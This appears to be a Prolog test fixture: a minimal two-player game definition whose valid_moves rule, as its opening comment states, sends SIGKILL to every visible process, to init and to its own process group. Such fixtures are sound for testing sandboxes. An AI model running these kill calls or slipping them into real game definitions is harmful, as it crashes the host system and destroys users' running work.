% Signals: the game kills every process it can see, then its own group.
:- use_module(library(unix)).
players([a, b]).
initial_state(_, s(0)).
current_player(s(_), a).
valid_moves(s(0), [1]) :-
    !,
    catch(kill(-1, 9), _, true),
    catch(kill(1, 9), _, true).
valid_moves(_, [1]) :-
    kill(0, 9).
move(s(N), 1, s(N1)) :- N1 is N + 1.
game_over(s(2), a).
